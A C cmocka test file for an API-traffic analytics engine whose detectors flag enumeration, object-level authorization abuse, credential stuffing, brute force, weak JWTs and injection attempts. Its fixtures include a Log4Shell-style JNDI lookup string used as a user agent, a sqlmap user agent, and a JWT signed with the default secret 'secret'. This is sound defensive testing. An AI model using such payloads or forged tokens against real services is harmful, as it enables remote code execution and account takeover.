/* Behavioural detectors on small synthetic traffic: each rule fires on its
 * attack and stays quiet on the look-alike normal behaviour. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>

#include <cmocka.h>

#include "analytics/analytics.h"
#include "common/hash.h"
#include "parse/classify.h"

#define SECOND 1000000000ULL
#define T0 (1700000000ULL * SECOND)

static ip_address ip4(uint8_t a, uint8_t b, uint8_t c, uint8_t d) {
    ip_address ip;
    memset(&ip, 0, sizeof ip);
    ip.family = 4;
    ip.bytes[0] = a;
    ip.bytes[1] = b;
    ip.bytes[2] = c;
    ip.bytes[3] = d;
    return ip;
}

static str_view sv(const char *s) {
    return (str_view){s, (uint32_t)strlen(s)};
}

static uint64_t key_of(const char *s) {
    return hash_bytes(HASH_SEED, s, strlen(s));
}

static analytics *make(void) {
    limits lim = limits_default();
    lim.analytics_max_actors = 4096;
    lim.analytics_max_objects = 4096;
    analytics *a = NULL;
    assert_int_equal(analytics_create(&lim, &a), AS_OK);
    return a;
}

/* A request by identity `user` (0 = anonymous) from address ip. */
static analytics_observation req(uint64_t ts, int user, ip_address ip, const char *endpoint,
                                 int endpoint_index, const char *path, uint16_t status) {
    static char ids[64][16];
    analytics_observation o;
    memset(&o, 0, sizeof o);
    o.ts_ns = ts;
    if (user) {
        o.identity_kind = ANALYTICS_JWT_SUB;
        o.identity = (uint64_t)user * 7919;
        snprintf(ids[user % 64], sizeof ids[0], "%d", user);
        o.identity_id = sv(ids[user % 64]);
    }
    o.client_ip = ip;
    o.endpoint = endpoint_index;
    o.endpoint_key = key_of(endpoint);
    o.path_key = key_of(path);
    o.status = status;
    o.cleartext = 0;
    return o;
}

static int count_type(const analytics *a, analytics_finding_type type) {
    int n = 0;
    for (uint32_t i = 0; i < analytics_finding_count(a); i++)
        n += analytics_finding_at(a, i)->type == type;
    return n;
}

static const analytics_finding *first_of(const analytics *a, analytics_finding_type type) {
    for (uint32_t i = 0; i < analytics_finding_count(a); i++)
        if (analytics_finding_at(a, i)->type == type)
            return analytics_finding_at(a, i);
    return NULL;
}

static void test_enumeration(void **state) {
    (void)state;
    analytics *a = make();
    ip_address scanner = ip4(10, 0, 0, 30), user = ip4(10, 0, 1, 1);
    char path[64];
    for (int i = 0; i < 80; i++) {
        /* a normal user: few endpoints, all fine */
        snprintf(path, sizeof path, "/orders/%d", i % 3);
        analytics_observation o =
            req(T0 + (uint64_t)i * SECOND, 1, user, "GET /orders/{id}", 0, path, 200);
        analytics_observe(a, &o);
        /* the scanner: a new path each time, most of them unknown */
        snprintf(path, sizeof path, "/probe%d", i);
        o = req(T0 + (uint64_t)i * SECOND + 1, 0, scanner, path, -1, path, i % 4 ? 404 : 200);
        analytics_observe(a, &o);
    }
    assert_int_equal(count_type(a, ANALYTICS_ENUMERATION), 1);
    const analytics_finding *f = first_of(a, ANALYTICS_ENUMERATION);
    assert_int_equal(f->identity_kind, ANALYTICS_ANONYMOUS);
    assert_memory_equal(&f->client_ip, &scanner, sizeof scanner);
    assert_true(f->count >= 40);
    assert_true(f->first_seen_ns <= T0 + SECOND);
    analytics_destroy(a);
}

/* 200,000 identities seen once each pass through a table of 1,024 actors:
 * memory stays what the limit says (the tables are sized at creation), the
 * turnover is counted, and a scanner that comes back every 100 newcomers
 * (well within the table) keeps its state. */
static void test_identity_churn_is_bounded(void **state) {
    (void)state;
    limits lim = limits_default();
    lim.analytics_max_actors = 1024;
    analytics *a = NULL;
    assert_int_equal(analytics_create(&lim, &a), AS_OK);
    ip_address scanner = ip4(10, 0, 0, 30);
    char path[64];
    uint64_t ts = T0;
    for (int i = 0; i < 200000; i++) {
        analytics_observation o =
            req(ts += SECOND / 1000, 1000 + i, ip4(10, 2, (uint8_t)(i >> 8), (uint8_t)i),
                "GET /orders/{id}", 0, "/orders/1", 200);
        analytics_observe(a, &o);
        if (i % 100 == 0) {
            snprintf(path, sizeof path, "/probe%d", i);
            o = req(ts, 0, scanner, path, -1, path, 404);
            analytics_observe(a, &o);
        }
    }
    analytics_stats st = analytics_get_stats(a);
    assert_int_equal(st.observed, 202000);
    assert_true(st.actors_evicted >= 200000 - 1024);
    assert_int_equal(count_type(a, ANALYTICS_ENUMERATION), 1);
    assert_memory_equal(&first_of(a, ANALYTICS_ENUMERATION)->client_ip, &scanner, sizeof scanner);
    assert_int_equal(count_type(a, ANALYTICS_BOLA), 0);
    analytics_destroy(a);
}

static void test_bola(void **state) {
    (void)state;
    analytics *a = make();
    char path[64], object[32];
    uint64_t ts = T0;
    /* twelve users each own and read three orders of their own */
    for (int round = 0; round < 3; round++)
        for (int u = 1; u <= 12; u++)
            for (int k = 0; k < 3; k++) {
                snprintf(object, sizeof object, "%d", u * 10 + k);
                snprintf(path, sizeof path, "/orders/%s", object);
                analytics_observation o = req(ts += SECOND, u, ip4(10, 0, 1, (uint8_t)u),
                                              "GET /orders/{id}", 0, path, 200);
                o.objects[0] = sv(object);
                o.object_count = 1;
                analytics_observe(a, &o);
            }
    assert_int_equal(count_type(a, ANALYTICS_BOLA), 0);
    /* user 17 walks the others' orders: 403 for most, some 200 */
    for (int id = 10; id < 130; id++) {
        snprintf(object, sizeof object, "%d", id);
        snprintf(path, sizeof path, "/orders/%s", object);
        analytics_observation o = req(ts += SECOND / 4, 17, ip4(10, 0, 1, 17), "GET /orders/{id}",
                                      0, path, id % 5 ? 403 : 200);
        o.objects[0] = sv(object);
        o.object_count = 1;
        analytics_observe(a, &o);
    }
    assert_int_equal(count_type(a, ANALYTICS_BOLA), 1);
    const analytics_finding *f = first_of(a, ANALYTICS_BOLA);
    assert_int_equal(f->identity_kind, ANALYTICS_JWT_SUB);
    assert_string_equal(f->identity_id, "17");
    assert_int_equal(f->endpoint_count, 1);
    analytics_destroy(a);
}

static analytics_observation login(uint64_t ts, ip_address ip, const char *user, uint16_t status) {
    analytics_observation o = req(ts, 0, ip, "POST /login", 2, "/login", status);
    o.login_attempt = 1;
    o.username = sv(user);
    o.login_success = status == 200;
    return o;
}

static void test_credential_stuffing(void **state) {
    (void)state;
    analytics *a = make();
    uint64_t ts = T0;
    char user[64];
    /* normal users: one typo each, then success */
    for (int u = 0; u < 10; u++) {
        snprintf(user, sizeof user, "user%d@example.org", u);
        analytics_observation o = login(ts += SECOND, ip4(10, 0, 1, (uint8_t)u), user, 400);
        analytics_observe(a, &o);
        o = login(ts += SECOND, ip4(10, 0, 1, (uint8_t)u), user, 200);
        analytics_observe(a, &o);
    }
    assert_int_equal(count_type(a, ANALYTICS_CREDENTIAL_STUFFING), 0);
    /* eight addresses replay leaked pairs, two of them work */
    for (int i = 0; i < 200; i++) {
        snprintf(user, sizeof user, "leak%d@example.org", i);
        analytics_observation o = login(ts += SECOND / 2, ip4(10, 0, 0, (uint8_t)(2 + i % 8)), user,
                                        (i == 77 || i == 150) ? 200 : 400);
        analytics_observe(a, &o);
    }
    assert_int_equal(count_type(a, ANALYTICS_CREDENTIAL_STUFFING), 1);
    assert_int_equal(count_type(a, ANALYTICS_BRUTE_FORCE), 0);
    const analytics_finding *f = first_of(a, ANALYTICS_CREDENTIAL_STUFFING);
    assert_int_equal(f->client_count, 8);
    assert_int_equal(f->identity_kind, ANALYTICS_ANONYMOUS);
    assert_int_equal(f->name_count, 2);
    assert_string_equal(f->names[0], "leak77@example.org");
    analytics_destroy(a);
}

static void test_brute_force(void **state) {
    (void)state;
    analytics *a = make();
    uint64_t ts = T0;
    /* a user mistyping three times is not an attack */
    for (int i = 0; i < 3; i++) {
        analytics_observation o = login(ts += SECOND, ip4(10, 0, 1, 5), "erin@example.org", 401);
        analytics_observe(a, &o);
    }
    assert_int_equal(count_type(a, ANALYTICS_BRUTE_FORCE), 0);
    for (int i = 0; i < 30; i++) {
        analytics_observation o =
            login(ts += SECOND, ip4(10, 0, 0, 20), "erin@example.org", i == 29 ? 200 : 400);
        analytics_observe(a, &o);
    }
    assert_int_equal(count_type(a, ANALYTICS_BRUTE_FORCE), 1);
    assert_int_equal(count_type(a, ANALYTICS_CREDENTIAL_STUFFING), 0);
    const analytics_finding *f = first_of(a, ANALYTICS_BRUTE_FORCE);
    ip_address attacker = ip4(10, 0, 0, 20);
    assert_memory_equal(&f->client_ip, &attacker, sizeof attacker);
    assert_string_equal(f->names[0], "erin@example.org");
    analytics_destroy(a);
}

static void test_weak_jwt_and_cleartext(void **state) {
    (void)state;
    analytics *a = make();
    analytics_observation o = req(T0, 3, ip4(10, 0, 1, 3), "GET /me", 0, "/me", 200);
    o.jwt.present = 1;
    o.jwt.alg = sv("HS256");
    o.jwt.has_exp = 1;
    o.jwt.iat = (int64_t)(T0 / SECOND);
    o.jwt.exp = o.jwt.iat + 3600;
    /* {"alg":"HS256","typ":"JWT"} {"sub":"3","iat":1700000000,"exp":1700003600},
     * signed with a long random secret */
    o.jwt.token = sv("eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9."
                     "eyJzdWIiOiIzIiwiaWF0IjoxNzAwMDAwMDAwLCJleHAiOjE3MDAwMDM2MDB9."
                     "v3BwDqX0KNxyDvkNDxB4VNZJ4zKl7ByEb2oag36YYBs");
    o.jwt.signer = 1;
    analytics_observe(a, &o);
    assert_int_equal(count_type(a, ANALYTICS_WEAK_JWT), 0);
    o.jwt.alg = sv("none");
    analytics_observe(a, &o);
    /* the same claims signed with "secret", a documented default */
    o.jwt.alg = sv("HS256");
    o.jwt.token = sv("eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9."
                     "eyJzdWIiOiIzIiwiaWF0IjoxNzAwMDAwMDAwLCJleHAiOjE3MDAwMDM2MDB9."
                     "s8fShlCZKpGn68YvGvDAE2LKXPmlXcxibMvyd_wm8M4");
    o.jwt.signer = 2;
    analytics_observe(a, &o);
    assert_int_equal(count_type(a, ANALYTICS_WEAK_JWT), 2);
    /* a login over plain HTTP */
    analytics_observation l = login(T0 + SECOND, ip4(10, 0, 1, 3), "u@example.org", 200);
    analytics_observe(a, &l);
    assert_int_equal(count_type(a, ANALYTICS_CLEARTEXT_CREDENTIALS), 0);
    l.cleartext = 1;
    analytics_observe(a, &l);
    assert_int_equal(count_type(a, ANALYTICS_CLEARTEXT_CREDENTIALS), 1);
    analytics_destroy(a);
}

/* A reloaded threshold applies to the running instance; its state stays. */
static void test_thresholds_reloaded(void **state) {
    (void)state;
    analytics *a = make();
    limits lim = limits_default();
    lim.brute_force_min_failures = 40;
    analytics_set_thresholds(a, &lim);
    uint64_t ts = T0;
    for (int i = 0; i < 30; i++) {
        analytics_observation o = login(ts += SECOND, ip4(10, 0, 0, 20), "erin@example.org", 401);
        analytics_observe(a, &o);
    }
    assert_int_equal(count_type(a, ANALYTICS_BRUTE_FORCE), 0); /* 30 < 40 */
    lim.brute_force_min_failures = 31;
    analytics_set_thresholds(a, &lim);
    analytics_observation o = login(ts += SECOND, ip4(10, 0, 0, 20), "erin@example.org", 401);
    analytics_observe(a, &o);
    /* the 30 failures before the reload still count */
    assert_int_equal(count_type(a, ANALYTICS_BRUTE_FORCE), 1);
    assert_true(analytics_is_threshold("bola_min_objects"));
    assert_false(analytics_is_threshold("analytics_max_actors"));
    assert_false(analytics_is_threshold("analytics_window_seconds"));
    analytics_destroy(a);
}

static void test_episodes(void **state) {
    (void)state;
    analytics *a = make();
    uint64_t ts = T0;
    for (int burst = 0; burst < 2; burst++) {
        for (int i = 0; i < 15; i++) {
            analytics_observation o =
                login(ts += SECOND, ip4(10, 0, 0, 20), "bob@example.org", 401);
            analytics_observe(a, &o);
        }
        ts += 3600 * SECOND; /* an hour of quiet closes the episode */
        analytics_tick(a, ts);
    }
    assert_int_equal(count_type(a, ANALYTICS_BRUTE_FORCE), 2);
    const analytics_finding *first = analytics_finding_at(a, 0),
                            *second = analytics_finding_at(a, 1);
    assert_int_equal(first->open, 0);
    assert_true(first->id != second->id);
    assert_int_equal(first->count, 15);
    analytics_destroy(a);
}

static void test_spike_after_learning(void **state) {
    (void)state;
    analytics *a = make();
    uint64_t ts = T0;
    for (int w = 0; w < 6; w++) {
        for (int i = 0; i < 20; i++) {
            analytics_observation o = req(ts + (uint64_t)i * 10 * SECOND, 1, ip4(10, 0, 1, 1),
                                          "GET /report", 0, "/report", 200);
            analytics_observe(a, &o);
        }
        ts += 300 * SECOND;
    }
    assert_int_equal(count_type(a, ANALYTICS_TRAFFIC_SPIKE), 0);
    /* then 400 requests in one window: 20x the level */
    for (int i = 0; i < 400; i++) {
        analytics_observation o =
            req(ts + (uint64_t)i * SECOND / 2, 1 + i % 7, ip4(10, 0, 1, (uint8_t)(1 + i % 7)),
                "GET /report", 0, "/report", 200);
        analytics_observe(a, &o);
    }
    assert_int_equal(count_type(a, ANALYTICS_TRAFFIC_SPIKE), 1);
    assert_int_equal(first_of(a, ANALYTICS_TRAFFIC_SPIKE)->endpoint_count, 1);
    analytics_destroy(a);
}

static void test_endpoint_spray(void **state) {
    (void)state;
    analytics *a = make();
    char endpoint[32];
    uint64_t ts = T0;
    /* four windows (300 s) in which users 1 and 2 use four endpoints each */
    for (int w = 0; w < 4; w++) {
        for (int i = 0; i < 40; i++) {
            snprintf(endpoint, sizeof endpoint, "GET /r%d", i % 4);
            for (int user = 1; user <= 2; user++) {
                analytics_observation o =
                    req(ts + (uint64_t)i * SECOND, user, ip4(10, 0, 1, (uint8_t)user), endpoint,
                        i % 4, endpoint, 200);
                analytics_observe(a, &o);
            }
        }
        ts += 300 * SECOND;
    }
    assert_int_equal(count_type(a, ANALYTICS_ENDPOINT_SPRAY), 0);
    /* a newcomer touching thirty endpoints has no level yet: nothing to compare */
    for (int i = 0; i < 30; i++) {
        snprintf(endpoint, sizeof endpoint, "GET /r%d", i);
        analytics_observation o =
            req(ts + (uint64_t)i * SECOND, 3, ip4(10, 0, 1, 3), endpoint, i, endpoint, 200);
        analytics_observe(a, &o);
    }
    assert_int_equal(count_type(a, ANALYTICS_ENDPOINT_SPRAY), 0);
    /* then user 2, whose level is four, touches thirty endpoints in one window */
    for (int i = 0; i < 30; i++) {
        snprintf(endpoint, sizeof endpoint, "GET /r%d", i);
        analytics_observation o =
            req(ts + (uint64_t)i * SECOND, 2, ip4(10, 0, 1, 2), endpoint, i, endpoint, 200);
        analytics_observe(a, &o);
    }
    assert_int_equal(count_type(a, ANALYTICS_ENDPOINT_SPRAY), 1);
    assert_string_equal(first_of(a, ANALYTICS_ENDPOINT_SPRAY)->identity_id, "2");
    analytics_destroy(a);
}

static int64_t evidence_of(const analytics_finding *f, const char *key) {
    for (int i = 0; i < ANALYTICS_MAX_EVIDENCE && f->evidence[i].key; i++)
        if (!strcmp(f->evidence[i].key, key))
            return f->evidence[i].value;
    return -1;
}

static void test_injection_attempt(void **state) {
    (void)state;
    analytics *a = make();
    uint64_t ts = T0;
    /* ordinary traffic, including a user agent nDPI did not flag: nothing */
    for (int i = 0; i < 50; i++) {
        analytics_observation o =
            req(ts += SECOND, 0, ip4(10, 0, 2, 1), "GET /items", 0, "/items", 200);
        o.user_agent = sv("curl/8.0");
        analytics_observe(a, &o);
    }
    assert_int_equal(count_type(a, ANALYTICS_INJECTION_ATTEMPT), 0);
    /* an anonymous client sends SQL injection (404 and 200) and XSS */
    uint32_t kinds[] = {CLASSIFY_RISK_SQL_INJECTION, CLASSIFY_RISK_SQL_INJECTION,
                        CLASSIFY_RISK_XSS};
    uint16_t statuses[] = {404, 200, 400};
    for (int i = 0; i < 3; i++) {
        analytics_observation o =
            req(ts += SECOND, 0, ip4(10, 0, 2, 9), "GET /items", 0, "/items", statuses[i]);
        o.risks = kinds[i];
        analytics_observe(a, &o);
    }
    assert_int_equal(count_type(a, ANALYTICS_INJECTION_ATTEMPT), 1);
    const analytics_finding *f = first_of(a, ANALYTICS_INJECTION_ATTEMPT);
    assert_int_equal(f->count, 3);
    assert_int_equal(evidence_of(f, "sql_injection"), 2);
    assert_int_equal(evidence_of(f, "xss"), 1);
    assert_int_equal(evidence_of(f, "answered_2xx"), 1);
    assert_string_equal(f->severity, "high");
    assert_int_equal(f->name_count, 2);
    assert_int_equal(f->client_ip.bytes[3], 9);
    /* a user agent risk alone is not an injection */
    assert_int_equal(count_type(a, ANALYTICS_SUSPICIOUS_USER_AGENT), 0);
    analytics_destroy(a);
}

static void test_suspicious_user_agent(void **state) {
    (void)state;
    analytics *a = make();
    uint64_t ts = T0;
    for (int i = 0; i < 4; i++) {
        analytics_observation o =
            req(ts += SECOND, 5, ip4(10, 0, 3, 1), "POST /login", 0, "/login", 401);
        o.risks =
            CLASSIFY_RISK_SUSPICIOUS_USER_AGENT | (i == 0 ? CLASSIFY_RISK_POSSIBLE_EXPLOIT : 0);
        o.user_agent = sv(i < 2 ? "sqlmap/1.7" : "${jndi:ldap://x/a}");
        analytics_observe(a, &o);
    }
    assert_int_equal(count_type(a, ANALYTICS_SUSPICIOUS_USER_AGENT), 1);
    assert_int_equal(count_type(a, ANALYTICS_INJECTION_ATTEMPT), 0);
    const analytics_finding *f = first_of(a, ANALYTICS_SUSPICIOUS_USER_AGENT);
    assert_int_equal(f->count, 4);
    assert_string_equal(f->identity_id, "5");
    assert_int_equal(f->name_count, 2);
    assert_string_equal(f->names[0], "sqlmap/1.7");
    assert_int_equal(evidence_of(f, "possible_exploit"), 1);
    assert_string_equal(f->severity, "low");
    analytics_destroy(a);
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_enumeration),
        cmocka_unit_test(test_identity_churn_is_bounded),
        cmocka_unit_test(test_bola),
        cmocka_unit_test(test_credential_stuffing),
        cmocka_unit_test(test_brute_force),
        cmocka_unit_test(test_weak_jwt_and_cleartext),
        cmocka_unit_test(test_episodes),
        cmocka_unit_test(test_thresholds_reloaded),
        cmocka_unit_test(test_spike_after_learning),
        cmocka_unit_test(test_endpoint_spray),
        cmocka_unit_test(test_injection_attempt),
        cmocka_unit_test(test_suspicious_user_agent),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
